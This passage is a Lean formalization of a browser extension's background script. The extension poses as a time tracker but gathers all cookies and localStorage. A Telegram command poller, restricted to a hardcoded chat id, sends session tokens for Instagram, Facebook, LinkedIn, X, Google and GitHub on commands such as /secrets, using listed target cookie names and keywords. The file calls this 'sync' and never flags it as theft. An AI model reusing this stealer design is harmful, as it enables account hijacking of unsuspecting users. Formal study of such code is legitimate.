import Mathlib

/-! # Time-tracker extension: shallow embedding of `background.js`

The background script is straight-line event handling over a persistent
key-value store.  The embedding below follows `src/background.js` function by
function.

Modelling conventions.

* A JavaScript object used as a string-keyed dictionary (`stats`,
  `cookieData`, `webStorage`, `localStorage`) is the association list of its
  own properties in insertion order; `Object.keys` / `Object.entries` enumerate
  it in that order.  `JsObject.get` reads an own property; a read `o[k]` of a
  key that is not an own property falls through to `Object.prototype`, which
  `JsObject.read` models.
* A call that throws is explicit: `updateCookieStats` and `targetKeysOf` answer
  `none`, and the poller takes the calls that throw from its environment.
* `Date.now()` is an explicit `now : Int` argument; one handler run reads a
  single clock value.
* `await` points are sequential composition: a handler runs to completion
  before the next event is handled.
* Strings are Lean strings; every string primitive is defined by structural
  recursion on the character list so that it evaluates.
-/

namespace TimeTracker

/-! ## JavaScript primitives -/

/-- A string-keyed JavaScript object, in insertion order. -/
abbrev JsObject (α : Type) := List (String × α)

/-- Own property `k` of `o`; `none` when `o` has no own property `k`. -/
def JsObject.get {α : Type} (o : JsObject α) (k : String) : Option α :=
  match o with
  | [] => none
  | (k', v) :: rest => if k' = k then some v else JsObject.get rest k

/-- Property write `o[k] = v`: overwrite in place, or append a new key. -/
def JsObject.set {α : Type} (o : JsObject α) (k : String) (v : α) : JsObject α :=
  match o with
  | [] => [(k, v)]
  | (k', v') :: rest =>
    if k' = k then (k', v) :: rest else (k', v') :: JsObject.set rest k v

/-- The list `Object.keys(o)`. -/
def JsObject.keys {α : Type} (o : JsObject α) : List String :=
  o.map Prod.fst

/-- The own property names of `Object.prototype`, which every plain object
inherits. -/
def objectPrototypeKeys : List String :=
  [ "constructor", "__defineGetter__", "__defineSetter__", "hasOwnProperty",
    "__lookupGetter__", "__lookupSetter__", "isPrototypeOf", "propertyIsEnumerable",
    "toString", "valueOf", "__proto__", "toLocaleString" ]

/-- Result of the property read `o[k]` on a plain object: an own property, a
member inherited from `Object.prototype` (a function, or the prototype object
itself for `__proto__`; always truthy), or `undefined`. -/
inductive JsRead (α : Type) where
  | own (v : α)
  | inherited
  | undefined
  deriving DecidableEq, Repr

/-- Property read `o[k]`. -/
def JsObject.read {α : Type} (o : JsObject α) (k : String) : JsRead α :=
  match o.get k with
  | some v => .own v
  | none => if k ∈ objectPrototypeKeys then .inherited else .undefined

/-- Truthiness of a nullable string: `null` and `""` are falsy. -/
def truthyStr : Option String → Bool
  | none => false
  | some s => s != ""

/-- Truthiness of a nullable number: `null` and `0` are falsy. -/
def truthyNum : Option Int → Bool
  | none => false
  | some n => n != 0

/-! ## Activity timer (`updateTime` and the event listeners) -/

/-- The volatile globals `currentDomain`, `startTime` together with the
persisted `stats` object.  The entries of `stats` that hold a number are the
field `stats`; `textStats` lists the keys of `stats` that hold a string (the
text of the string is not kept). -/
structure Tracker where
  currentDomain : Option String
  startTime : Option Int
  stats : JsObject Int
  textStats : List String
  deriving DecidableEq, Repr

/-- The state at load: both globals `null`, no stats stored. -/
def Tracker.init : Tracker :=
  { currentDomain := none, startTime := none, stats := [], textStats := [] }

/-- The value `stats[d] || 0` of an own numeric entry, and 0 for a key that
has no own entry. -/
def statOf (stats : JsObject Int) (d : String) : Int :=
  (stats.get d).getD 0

/-- Function `updateTime` run at clock value `now`.  The statements
`if (!stats[d]) stats[d] = 0; stats[d] += duration` add the duration to an own
number and start an absent key at 0.  An own string (it begins with the text of
an inherited member, so it is not empty) is truthy and `+=` appends to it.  An
inherited member is truthy too, so `+=` concatenates its text with
the duration and stores that string under the key; for `__proto__` the
assignment goes to the prototype setter, which ignores a string. -/
def updateTime (now : Int) (t : Tracker) : Tracker :=
  match t.currentDomain, t.startTime with
  | some d, some s =>
    if truthyStr (some d) && truthyNum (some s) then
      let duration := now - s
      if d ∈ t.textStats then t
      else
        match t.stats.read d with
        | .own v => { t with stats := t.stats.set d (v + duration) }
        | .undefined => { t with stats := t.stats.set d (0 + duration) }
        | .inherited =>
          if d = "__proto__" then t else { t with textStats := t.textStats ++ [d] }
    else t
  | _, _ => t

/-- Outcome of `chrome.tabs.get` / the active-tab lookup as seen by a handler:
the lookup may fail, and otherwise `getDomain(tab.url)` is a host name or
`null`. -/
inductive TabLookup where
  | failed
  | tab (domain : Option String)
  deriving DecidableEq, Repr

/-- The argument of `windows.onFocusChanged`. -/
inductive WindowFocus where
  | none_
  | window (active : TabLookup)
  deriving DecidableEq, Repr

/-- The three idle states reported by `chrome.idle`. -/
inductive IdleState where
  | active
  | idle
  | locked
  deriving DecidableEq, Repr

/-- The browser events that reach the activity timer. -/
inductive Event where
  /-- Listener `tabs.onActivated`; the payload is the result of
  `chrome.tabs.get`. -/
  | tabActivated (r : TabLookup)
  /-- Listener `tabs.onUpdated`; `none` when `changeInfo.url` is absent,
  otherwise `getDomain(changeInfo.url)`. -/
  | tabUpdated (url : Option (Option String))
  /-- Listener `windows.onFocusChanged`. -/
  | windowFocusChanged (w : WindowFocus)
  /-- Listener `idle.onStateChanged`; the second payload is the result of
  `chrome.tabs.query` for the active tab. -/
  | idleStateChanged (s : IdleState) (r : TabLookup)
  /-- The five-minute interval; the payloads are the result of `queryState` and
  whether `updateCookieStats` throws. -/
  | tick (s : IdleState) (cookieScanThrows : Bool)
  /-- A full sync request (`sync_telegram` message or `/sync` command); the
  payload is whether `updateCookieStats` throws. -/
  | syncRequested (cookieScanThrows : Bool)
  /-- Listener `windows.onRemoved` when no window is left. -/
  | lastWindowClosed
  deriving DecidableEq, Repr

/-- The tail shared by the interval, the sync message and the `/sync` command:
`await updateTime(); await updateCookieStats(); if (currentDomain) startTime =
Date.now()`.  When `updateCookieStats` throws, the handler ends there and the
start time is not renewed. -/
def flushAndRestart (now : Int) (cookieScanThrows : Bool) (t : Tracker) : Tracker :=
  let t1 := updateTime now t
  if cookieScanThrows then t1
  else if truthyStr t1.currentDomain then { t1 with startTime := some now } else t1

/-- One handler run at clock value `now`. -/
def step (t : Tracker) (ev : Int × Event) : Tracker :=
  let now := ev.1
  match ev.2 with
  | .tabActivated r =>
    let t1 := updateTime now t
    match r with
    | .failed => t1
    | .tab d => { t1 with currentDomain := d, startTime := some now }
  | .tabUpdated none => t
  | .tabUpdated (some newDomain) =>
    if newDomain ≠ t.currentDomain then
      let t1 := updateTime now t
      { t1 with currentDomain := newDomain, startTime := some now }
    else t
  | .windowFocusChanged .none_ =>
    let t1 := updateTime now t
    { t1 with currentDomain := none, startTime := none }
  | .windowFocusChanged (.window .failed) => t
  | .windowFocusChanged (.window (.tab d)) =>
    { t with currentDomain := d, startTime := some now }
  | .idleStateChanged .idle _ =>
    let t1 := updateTime now t
    { t1 with startTime := none }
  | .idleStateChanged .locked _ =>
    let t1 := updateTime now t
    { t1 with startTime := none }
  | .idleStateChanged .active .failed => t
  | .idleStateChanged .active (.tab d) =>
    { t with currentDomain := d, startTime := some now }
  | .tick .active c => flushAndRestart now c t
  | .tick _ _ => t
  | .syncRequested c => flushAndRestart now c t
  | .lastWindowClosed => updateTime now t

/-- The tracker after a sequence of timestamped events. -/
def run (t : Tracker) (evs : List (Int × Event)) : Tracker :=
  evs.foldl step t

/-! ### Reference timer, written from the specification

The specification's contract is `onFocusChange(newDomain, now)`: flush
`now - startTime` into the duration map if both are set, then make `newDomain`
current with `startTime = now`; on focus loss or idle, flush and clear
`startTime`.  The two definitions below follow those words, not the code. -/

/-- Reference contract `onFocusChange(newDomain, now)` of the specification. -/
def specOnFocusChange (newDomain : Option String) (now : Int) (t : Tracker) : Tracker :=
  { updateTime now t with currentDomain := newDomain, startTime := some now }

/-- Reference handler: every focus, navigation and idle transition goes through
`specOnFocusChange`; an unresolved tab counts as domain `null`. -/
def specStep (t : Tracker) (ev : Int × Event) : Tracker :=
  let now := ev.1
  let resolved : TabLookup → Option String := fun r =>
    match r with
    | .failed => none
    | .tab d => d
  match ev.2 with
  | .tabActivated r => specOnFocusChange (resolved r) now t
  | .tabUpdated none => t
  | .tabUpdated (some d) => if d ≠ t.currentDomain then specOnFocusChange d now t else t
  | .windowFocusChanged .none_ => { updateTime now t with startTime := none }
  | .windowFocusChanged (.window r) => specOnFocusChange (resolved r) now t
  | .idleStateChanged .active r => specOnFocusChange (resolved r) now t
  | .idleStateChanged _ _ => { updateTime now t with startTime := none }
  | .tick .active c => flushAndRestart now c t
  | .tick _ _ => t
  | .syncRequested c => flushAndRestart now c t
  | .lastWindowClosed => updateTime now t

/-- Reference run of the specification's timer. -/
def specRun (t : Tracker) (evs : List (Int × Event)) : Tracker :=
  evs.foldl specStep t

/-! ## Event log (`logActivity`) -/

/-- One record of the activity log. -/
structure ActivityEvent where
  domain : String
  action : String
  openerDomain : Option String
  timestamp : Int
  deriving DecidableEq, Repr

/-- Function `logActivity` on the stored log: push, then drop the head when the
length exceeds 1000, then store. -/
def logActivity (activityLog : List ActivityEvent) (e : ActivityEvent) : List ActivityEvent :=
  let pushed := activityLog ++ [e]
  if pushed.length > 1000 then pushed.tail else pushed

/-- The stored log after a sequence of `logActivity` calls. -/
def logAll (activityLog : List ActivityEvent) (es : List ActivityEvent) : List ActivityEvent :=
  es.foldl logActivity activityLog

/-! ## Cookie snapshot (`updateCookieStats`) -/

/-- A cookie as returned by `chrome.cookies.getAll`. -/
structure Cookie where
  domain : String
  name : String
  value : String
  path : String
  secure : Bool
  httpOnly : Bool
  expirationDate : Option Int
  sameSite : String
  session : Bool
  deriving DecidableEq, Repr

/-- The record stored per cookie (every field but the domain). -/
structure CookieRecord where
  name : String
  value : String
  path : String
  secure : Bool
  httpOnly : Bool
  expirationDate : Option Int
  sameSite : String
  session : Bool
  deriving DecidableEq, Repr

/-- The object literal pushed by `updateCookieStats`. -/
def Cookie.record (c : Cookie) : CookieRecord :=
  { name := c.name, value := c.value, path := c.path, secure := c.secure,
    httpOnly := c.httpOnly, expirationDate := c.expirationDate,
    sameSite := c.sameSite, session := c.session }

/-- Test `s.startsWith('.')`. -/
def startsWithDot (s : String) : Bool :=
  match s.data with
  | c :: _ => c == '.'
  | [] => false

/-- Expression `d.startsWith('.') ? d.substring(1) : d`. -/
def stripLeadingDot (d : String) : String :=
  if startsWithDot d then String.mk d.data.tail else d

/-- The statements `if (!cookieData[domain]) cookieData[domain] = [];
cookieData[domain].push(..)` when the read finds an own group or nothing. -/
def pushCookie (cookieData : JsObject (List CookieRecord)) (c : Cookie) :
    JsObject (List CookieRecord) :=
  let domain := stripLeadingDot c.domain
  cookieData.set domain ((cookieData.get domain).getD [] ++ [c.record])

/-- One iteration of the `forEach` of `updateCookieStats`; `none` is a thrown
`TypeError`: an inherited member is truthy, so no group is created, and it has
no method `push`. -/
def addCookie (cookieData : JsObject (List CookieRecord)) (c : Cookie) :
    Option (JsObject (List CookieRecord)) :=
  match cookieData.read (stripLeadingDot c.domain) with
  | .inherited => none
  | .own _ => some (pushCookie cookieData c)
  | .undefined => some (pushCookie cookieData c)

/-- The `forEach` of `updateCookieStats` from a given object on; the first
iteration that throws ends it. -/
def scanCookies (cookieData : JsObject (List CookieRecord)) :
    List Cookie → Option (JsObject (List CookieRecord))
  | [] => some cookieData
  | c :: rest =>
    match addCookie cookieData c with
    | none => none
    | some next => scanCookies next rest

/-- Function `updateCookieStats`: the `cookieData` object built from the
cookies returned by the browser and written to the store; `none` when the
loop throws, in which case the write is not reached and nothing is stored. -/
def updateCookieStats (cookies : List Cookie) : Option (JsObject (List CookieRecord)) :=
  scanCookies [] cookies

/-! ## Remote command poller (`checkTelegramCommands`) -/

/-- The constant `TELEGRAM_CONFIG.chatId`. -/
def TELEGRAM_CONFIG_chatId : String := "7658385347"

/-- The part of an inbound message the poller reads. -/
structure Message where
  text : Option String
  chatId : Int
  deriving DecidableEq, Repr

/-- One element of `data.result`. -/
structure Update where
  update_id : Int
  message : Option Message
  deriving DecidableEq, Repr

/-- The calls a command handler makes, in program order.  Console output is
not part of the model. -/
inductive Action where
  | sendToTelegram (text : String)
  | updateTime
  | updateCookieStats
  /-- Statement `if (currentDomain) startTime = Date.now()`. -/
  | restartTimer
  | triggerTelegramSync
  | reportOnlySecrets
  deriving DecidableEq, Repr

/-- The poller's variable `lastUpdateId`, the value stored under the key
`lastUpdateId`, and the calls made so far. -/
structure Poller where
  lastUpdateId : Int
  stored : Option Int
  actions : List Action
  deriving DecidableEq, Repr

/-- The code points removed by `String.prototype.trim`. -/
def isJsWhitespace (c : Char) : Bool :=
  let n := c.toNat
  n == 9 || n == 10 || n == 11 || n == 12 || n == 13 || n == 32 || n == 160 ||
  n == 0x1680 || (0x2000 ≤ n && n ≤ 0x200A) || n == 0x2028 || n == 0x2029 ||
  n == 0x202F || n == 0x205F || n == 0x3000 || n == 0xFEFF

/-- Method `trim`. -/
def jsTrim (s : String) : String :=
  String.mk ((s.data.dropWhile isJsWhitespace).reverse.dropWhile isJsWhitespace).reverse

/-- Lower case of one character: the ASCII letters, and the two characters
outside ASCII whose lower case contains an ASCII letter, U+212A (Kelvin sign,
to `k`) and U+0130 (dotted capital I, to `i` followed by U+0307). -/
def lowerChar (c : Char) : List Char :=
  if c.toNat = 0x212A then ['k']
  else if c.toNat = 0x130 then ['i', Char.ofNat 0x307]
  else [c.toLower]

/-- Method `toLowerCase`.  Any other character outside ASCII is left as it is,
where JavaScript may put other characters outside ASCII in its place; the
program only searches the result for ASCII keywords and compares it with ASCII
commands, which see no difference. -/
def toLowerCase (s : String) : String :=
  String.mk (s.data.flatMap lowerChar)

/-- Test `message.chat.id.toString() !== TELEGRAM_CONFIG.chatId`, negated. -/
def isAuthorized (m : Message) : Bool :=
  toString m.chatId == TELEGRAM_CONFIG_chatId

/-- The command dispatch at the end of the loop body. -/
def dispatch (command : String) : List Action :=
  if command = "/sync" ∨ command = "/cookies" then
    [ .sendToTelegram "🔄 <b>Buddy is processing your request...</b> One moment!",
      .updateTime, .updateCookieStats, .restartTimer, .triggerTelegramSync ]
  else if command = "/secrets" ∨ command = "/sessions" then
    [ .sendToTelegram "🔒 <b>Performing Deep Secret Scan...</b> This may take a moment.",
      .reportOnlySecrets ]
  else if command = "/status" then
    [ .sendToTelegram "🟢 <b>Browser Buddy is Online!</b>\n\nI'm currently tracking your time and logins safely. Keep up the good work! 🚀" ]
  else if command = "/start" then
    [ .sendToTelegram "👋 <b>Hello! I am your Browser Buddy.</b>\n\nYou can use these commands to control me remotely:\n\n• <code>/sync</code> - Detailed report (Time + Cookies + Storage)\n• <code>/secrets</code> - 🔒 <b>Secrets Only</b> (Session IDs + Auth Tokens)\n• <code>/status</code> - Check if I'm active" ]
  else []

/-- What goes wrong in the environment while one update is handled: whether
the write of `lastUpdateId` to `chrome.storage.local` rejects, and which calls
of the command handler throw. -/
structure Faults where
  persistFails : Bool
  throws : Action → Bool

/-- The environment in which nothing throws. -/
def Faults.quiet : Faults :=
  { persistFails := false, throws := fun _ => false }

/-- Whether a call can throw into the loop: `sendToTelegram` catches its own
errors and the timer restart is a plain assignment. -/
def Action.canThrow : Action → Bool
  | .sendToTelegram _ => false
  | .restartTimer => false
  | _ => true

/-- The calls of a handler that are made, in order, and whether the last of
them threw: a call that throws is made, and the calls after it are not. -/
def runCalls (f : Faults) : List Action → List Action × Bool
  | [] => ([], false)
  | a :: rest =>
    if a.canThrow && f.throws a then ([a], true)
    else ((runCalls f rest).1.cons a, (runCalls f rest).2)

/-- One iteration of `for (const update of data.result)` in a given
environment; the flag says that the iteration threw, which the `catch` around
the loop turns into the end of the batch. -/
def handleUpdateIn (f : Faults) (p : Poller) (u : Update) : Poller × Bool :=
  let p0 : Poller := { p with lastUpdateId := u.update_id }
  if f.persistFails then (p0, true)
  else
    let p1 : Poller := { p0 with stored := some u.update_id }
    match u.message with
    | none => (p1, false)
    | some m =>
      if !truthyStr m.text then (p1, false)
      else if !isAuthorized m then (p1, false)
      else
        let command := jsTrim (toLowerCase (m.text.getD ""))
        let r := runCalls f (dispatch command)
        ({ p1 with actions := p1.actions ++ r.1 }, r.2)

/-- One iteration of the loop when nothing throws. -/
def handleUpdate (p : Poller) (u : Update) : Poller :=
  (handleUpdateIn Faults.quiet p u).1

/-- The body of `getUpdates`: the flag `ok` and the array `result`. -/
structure PollResponse where
  ok : Bool
  result : List Update
  deriving DecidableEq, Repr

/-- The loop over `data.result` inside the `try`: the update at position `i` is
handled in the environment `faults i`, and the first iteration that throws ends
the loop, the updates after it being left unvisited. -/
def runBatch (faults : Nat → Faults) : Nat → Poller → List Update → Poller
  | _, p, [] => p
  | i, p, u :: rest =>
    if (handleUpdateIn (faults i) p u).2 then (handleUpdateIn (faults i) p u).1
    else runBatch faults (i + 1) (handleUpdateIn (faults i) p u).1 rest

/-- Function `checkTelegramCommands` for one poll in a given environment;
`none` is a failed fetch. -/
def checkTelegramCommandsIn (faults : Nat → Faults) (p : Poller)
    (response : Option PollResponse) : Poller :=
  match response with
  | none => p
  | some data =>
    if data.ok && data.result.length > 0 then runBatch faults 0 p data.result else p

/-- Function `checkTelegramCommands` for one poll during which nothing
throws. -/
def checkTelegramCommands (p : Poller) (response : Option PollResponse) : Poller :=
  checkTelegramCommandsIn (fun _ => Faults.quiet) p response

/-- The query parameter `offset` of the next poll. -/
def nextOffset (p : Poller) : Int := p.lastUpdateId + 1

/-- An update is unauthorized when it carries a message whose chat id is not
the allow-listed one. -/
def Update.unauthorized (u : Update) : Bool :=
  match u.message with
  | none => false
  | some m => !isAuthorized m

/-! ## Remote sync reporter (`triggerTelegramSync` and its helpers) -/

/-- Property `length` of a string: the number of UTF-16 code units. -/
def jsLength (s : String) : Nat :=
  (s.data.map (fun c => if c.toNat < 0x10000 then 1 else 2)).sum

/-- Method `padEnd(n)`: pad with spaces up to `n` code units. -/
def padEnd (s : String) (n : Nat) : String :=
  String.mk (s.data ++ List.replicate (n - jsLength s) ' ')

/-- Whether the characters `sub` occur contiguously in the list. -/
def includesChars (sub : List Char) : List Char → Bool
  | [] => sub.isEmpty
  | c :: cs => sub.isPrefixOf (c :: cs) || includesChars sub cs

/-- Method `s.includes(sub)`. -/
def includes (s sub : String) : Bool :=
  includesChars sub.data s.data

/-- Pieces of a character list around each occurrence of `sep`. -/
def splitChars (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    if c = sep then [] :: splitChars sep cs
    else
      match splitChars sep cs with
      | [] => [[c]]
      | p :: ps => (c :: p) :: ps

/-- Method `parts.join('.')` on character lists. -/
def joinChars (sep : Char) : List (List Char) → List Char
  | [] => []
  | [p] => p
  | p :: q :: rest => p ++ sep :: joinChars sep (q :: rest)

/-- Conversion of a nullable string to a string, as done for an argument of
`includes`: `null` becomes `"null"`. -/
def jsToString : Option String → String
  | none => "null"
  | some s => s

/-- Function `getBaseDomain`. -/
def getBaseDomain (domain : Option String) : Option String :=
  match domain with
  | none => none
  | some d =>
    if d = "" then none
    else
      let parts := splitChars '.' d.data
      if parts.length ≥ 2 then
        some (String.mk (joinChars '.' (parts.drop (parts.length - 2))))
      else some d

/-- The `Map` built by `new Map(relevant.map(c => [c.name, c]))`, read back with
`values()`: one cookie per name, at the position of the first occurrence of the
name, holding the last cookie of that name. -/
def dedupByName (relevant : List CookieRecord) : List CookieRecord :=
  (relevant.foldl (fun (m : JsObject CookieRecord) c => m.set c.name c) []).map Prod.snd

/-- Function `getRelevantCookies`. -/
def getRelevantCookies (targetDomain : String)
    (allCookieData : JsObject (List CookieRecord)) : List CookieRecord :=
  let baseDomain := getBaseDomain (some targetDomain)
  let relevant := allCookieData.flatMap (fun entry =>
    if includes entry.1 (jsToString baseDomain) || includes targetDomain entry.1 then entry.2
    else [])
  dedupByName relevant

/-- The constant `SOCIAL_PLATFORMS`. -/
def SOCIAL_PLATFORMS : JsObject (List String) :=
  [ ("instagram.com", ["sessionid", "ds_user_id", "csrftoken"]),
    ("facebook.com", ["c_user", "xs", "datr", "fr"]),
    ("linkedin.com", ["li_at", "li_rm", "JSESSIONID"]),
    ("twitter.com", ["auth_token", "ct0", "twid"]),
    ("x.com", ["auth_token", "ct0", "twid"]),
    ("reddit.com", ["reddit_session", "session_tracker"]),
    ("google.com", ["SID", "HSID", "SSID", "APISID", "SAPISID"]),
    ("github.com", ["user_session", "__Host-user_session_same_site"]),
    ("discord.com", ["__cfduid", "locale"]) ]

/-- Function `formatDuration` on an integer number of milliseconds; the
remainder `%` takes the sign of the dividend and `Math.floor` rounds down. -/
def formatDuration (ms : Int) : String :=
  let seconds := (Int.tmod ms 60000) / 1000
  let minutes := (Int.tmod ms 3600000) / 60000
  let hours := ms / 3600000
  toString hours ++ "h " ++ toString minutes ++ "m " ++ toString seconds ++ "s"

/-- One stored page capture (`request.data` of `update_web_storage`). -/
structure StorageSnapshot where
  domain : String
  localStorage : Option (JsObject String)
  sessionStorage : Option (JsObject String)
  timestamp : Int
  deriving DecidableEq, Repr

/-- The constant `sessionKeywords` of `triggerTelegramSync`. -/
def sessionKeywords : List String :=
  ["session", "token", "auth", "auth_token", "login", "sid", "user_id", "c_user", "xs"]

/-- Test `sessionKeywords.some(kw => name.toLowerCase().includes(kw))`. -/
def hasSessionKeyword (name : String) : Bool :=
  sessionKeywords.any (fun kw => includes (toLowerCase name) kw)

/-- The body of a chunking loop: flush the rows gathered so far when the next
row would take the message past 3500 code units, then append the row.  The
state is the variable `cookieRows` (or `storageRows`) and the messages sent. -/
def chunkStep (domainHeader tableMsg : String) (st : String × List String) (row : String) :
    String × List String :=
  let rows := st.1
  if jsLength tableMsg + jsLength rows + jsLength row > 3500 then
    ("" ++ row, st.2 ++ [domainHeader ++ tableMsg ++ rows ++ "</pre> (Continued...)"])
  else (rows ++ row, st.2)

/-- A whole chunking loop followed by the final `sendToTelegram`: the messages
sent for one table. -/
def tableMessages (domainHeader tableMsg : String) (rows : List String) : List String :=
  let st := rows.foldl (chunkStep domainHeader tableMsg) ("", [])
  st.2 ++ [domainHeader ++ tableMsg ++ st.1 ++ "</pre>"]

/-- A row of the general-cookie table. -/
def cookieRow (c : CookieRecord) : String :=
  padEnd c.name 15 ++ ": " ++ c.value ++ "\n"

/-- A row of the local-storage table. -/
def storageRow (entry : String × String) : String :=
  padEnd entry.1 15 ++ ": " ++ entry.2 ++ "\n"

/-- The priority lines of the secrets block. -/
def priorityLines (targetKeys : List String) (matchingCookies : List CookieRecord) : String :=
  targetKeys.foldl (fun block key =>
    match matchingCookies.find? (fun ck => ck.name = key) with
    | some c => block ++ ("<b>🔑 " ++ key ++ "</b>: <code>" ++ c.value ++ "</code>\n")
    | none => block) ""

/-- The secondary lines of the secrets block, appended to `block`. -/
def secondaryLines (targetKeys : List String) (matchingCookies : List CookieRecord)
    (block : String) : String :=
  matchingCookies.foldl (fun block c =>
    if !targetKeys.contains c.name && hasSessionKeyword c.name then
      block ++ ("• <i>" ++ c.name ++ "</i>: <code>" ++ c.value ++ "</code>\n")
    else block) block

/-- The filter `otherCookies`. -/
def otherCookies (targetKeys : List String) (matchingCookies : List CookieRecord) :
    List CookieRecord :=
  matchingCookies.filter (fun c => !(targetKeys.contains c.name || hasSessionKeyword c.name))

/-- The value `webStorage[domain].localStorage`, each of the two reads
defaulting to the empty object.  An inherited member found by the first read
has no property `localStorage`, so it gives the empty object like an absent
key. -/
def localStorageOf (webStorage : JsObject StorageSnapshot) (domain : String) : JsObject String :=
  match webStorage.get domain with
  | none => []
  | some snap => snap.localStorage.getD []

/-- Test `domainTime < 1000` for `domainTime = stats[domain] || 0`: an own
number is compared, an absent key gives 0, and an inherited member is not a
number, so the comparison is false. -/
def timeBelowThreshold (stats : JsObject Int) (domain : String) : Bool :=
  match stats.read domain with
  | .own v => decide (v < 1000)
  | .undefined => true
  | .inherited => false

/-- The silence test: `domainTime < 1000` and no matching cookie and no
local-storage key (the `continue` of the domain loop). -/
def isSilenced (stats : JsObject Int) (cookies : JsObject (List CookieRecord))
    (webStorage : JsObject StorageSnapshot) (domain : String) : Bool :=
  timeBelowThreshold stats domain && (getRelevantCookies domain cookies).length == 0 &&
    (localStorageOf webStorage domain).keys.length == 0

/-- The value `SOCIAL_PLATFORMS[baseDomain] || []` as the list the loop
`for (const key of targetKeys)` runs over; `none` when the read finds an
inherited member, which is truthy and not iterable, so that the loop throws. -/
def targetKeysOf (domain : String) : Option (List String) :=
  match SOCIAL_PLATFORMS.read (jsToString (getBaseDomain (some domain))) with
  | .own keys => some keys
  | .undefined => some []
  | .inherited => none

/-- Whether the iteration of the domain loop for `domain` throws: the domain
is not silenced and its priority keys are not iterable.  The throw comes before
any message of the domain is sent. -/
def domainThrows (stats : JsObject Int) (cookies : JsObject (List CookieRecord))
    (webStorage : JsObject StorageSnapshot) (domain : String) : Bool :=
  !isSilenced stats cookies webStorage domain && (targetKeysOf domain).isNone

/-- One iteration of the domain loop of `triggerTelegramSync`: the messages
sent for `domain`; none when the iteration throws (`domainThrows`).  An
iteration that reaches the header has a `domainTime` that is an own number or
0: a domain whose time is an inherited member is its own base domain, and its
iteration throws before the header is used. -/
def domainMessages (stats : JsObject Int) (cookies : JsObject (List CookieRecord))
    (webStorage : JsObject StorageSnapshot) (domain : String) : List String :=
  let domainTime := statOf stats domain
  let matchingCookies := getRelevantCookies domain cookies
  let lStorage := localStorageOf webStorage domain
  if isSilenced stats cookies webStorage domain then []
  else
    match targetKeysOf domain with
    | none => []
    | some targetKeys =>
    let domainHeader := "<b>🌐 DOMAIN:</b> <code>" ++ domain ++ "</code>\n" ++
      ("⏱️ Time Active: <code>" ++ formatDuration domainTime ++ "</code>\n\n")
    let secretBlock := secondaryLines targetKeys matchingCookies
      (priorityLines targetKeys matchingCookies)
    let secretMsgs :=
      if secretBlock ≠ "" then
        [domainHeader ++ "<b>🔒 SECRET SESSION DATA:</b>\n" ++ secretBlock]
      else []
    let domainHeader2 :=
      if secretBlock ≠ "" then "<b>🌐 " ++ domain ++ " (Extended Details):</b>\n"
      else domainHeader
    let others := otherCookies targetKeys matchingCookies
    let cookieMsgs :=
      if others.length > 0 then
        tableMessages domainHeader2
          ("<b>🍪 General Cookies (" ++ toString others.length ++ "):</b>\n<pre>")
          (others.map cookieRow)
      else []
    let storageMsgs :=
      if lStorage.keys.length > 0 then
        tableMessages domainHeader2 "<b>📦 Website Storage (localStorage):</b>\n<pre>"
          (lStorage.map storageRow)
      else []
    secretMsgs ++ cookieMsgs ++ storageMsgs

/-- The elements of `new Set(xs)` in iteration order: first occurrences. -/
def setOf (xs : List String) : List String :=
  xs.foldl (fun acc x => if acc.contains x then acc else acc ++ [x]) []

/-- The set `allDomains`, in iteration order. -/
def allDomains (stats : JsObject Int) (cookies : JsObject (List CookieRecord))
    (webStorage : JsObject StorageSnapshot) : List String :=
  setOf (stats.keys ++ cookies.keys.map stripLeadingDot ++ webStorage.keys)

/-- The array `sortedDomains`: `Array.prototype.sort` is a stable sort, and
the comparator `(stats[b] || 0) - (stats[a] || 0)` puts `a` first when its time
is larger; stable insertion computes the same array. -/
def sortedDomains (stats : JsObject Int) (cookies : JsObject (List CookieRecord))
    (webStorage : JsObject StorageSnapshot) : List String :=
  (allDomains stats cookies webStorage).insertionSort (fun a b => statOf stats b ≤ statOf stats a)

/-- The domain loop of `triggerTelegramSync`: the messages sent, and whether
an iteration threw, which ends the loop and the function. -/
def domainLoop (stats : JsObject Int) (cookies : JsObject (List CookieRecord))
    (webStorage : JsObject StorageSnapshot) : List String → List String × Bool
  | [] => ([], false)
  | domain :: rest =>
    if domainThrows stats cookies webStorage domain then ([], true)
    else
      (domainMessages stats cookies webStorage domain ++
          (domainLoop stats cookies webStorage rest).1,
        (domainLoop stats cookies webStorage rest).2)

/-- Function `triggerTelegramSync`: the messages passed to `sendToTelegram`,
in order; `device` is the result of `getDeviceInfo()`.  When the domain loop
throws, the closing message is not sent. -/
def triggerTelegramSync (device : String) (stats : JsObject Int)
    (cookies : JsObject (List CookieRecord)) (webStorage : JsObject StorageSnapshot) :
    List String :=
  let sorted := sortedDomains stats cookies webStorage
  let loop := domainLoop stats cookies webStorage (sorted.take 30)
  ["<b>🚀 UNIVERSAL DATA SYNC</b>\nDevice: <code>" ++ device ++
      "</code>\n<i>Status: Deep Precision Audit Complete</i>"] ++
    loop.1 ++
    (if loop.2 then []
     else ["<b>✅ PRECISION SYNC COMPLETE</b>\n\nAll secrets for " ++ toString sorted.length ++
      " domains have been meticulously verified."])

/-- The rows carried by each message of one table: the chunking loop on lists
of rows instead of concatenated strings. -/
def chunkRows (tableMsg : String) (rows : List String) : List (List String) :=
  let st := rows.foldl (fun (st : List String × List (List String)) row =>
    if jsLength tableMsg + jsLength (String.join st.1) + jsLength row > 3500 then
      ([row], st.2 ++ [st.1])
    else (st.1 ++ [row], st.2)) ([], [])
  st.2 ++ [st.1]

/-- The messages that carry the given row groups: every group but the last is
closed with the continuation marker. -/
def renderSegments (domainHeader tableMsg : String) : List (List String) → List String
  | [] => []
  | [seg] => [domainHeader ++ tableMsg ++ String.join seg ++ "</pre>"]
  | seg :: next :: rest =>
    (domainHeader ++ tableMsg ++ String.join seg ++ "</pre> (Continued...)") ::
      renderSegments domainHeader tableMsg (next :: rest)

/-! ### Sections of the secrets block, as lists of cookies -/

/-- The first header of a domain: name and active time. -/
def domainHeaderOf (stats : JsObject Int) (domain : String) : String :=
  "<b>🌐 DOMAIN:</b> <code>" ++ domain ++ "</code>\n" ++
    ("⏱️ Time Active: <code>" ++ formatDuration (statOf stats domain) ++ "</code>\n\n")

/-- The header of the messages that follow a secrets message. -/
def extendedHeaderOf (domain : String) : String :=
  "<b>🌐 " ++ domain ++ " (Extended Details):</b>\n"

/-- The cookies that get a priority line: for each key of `targetKeys`, in
order, the result of `matchingCookies.find(ck => ck.name === key)` when there
is one. -/
def priorityCookies (targetKeys : List String) (matchingCookies : List CookieRecord) :
    List CookieRecord :=
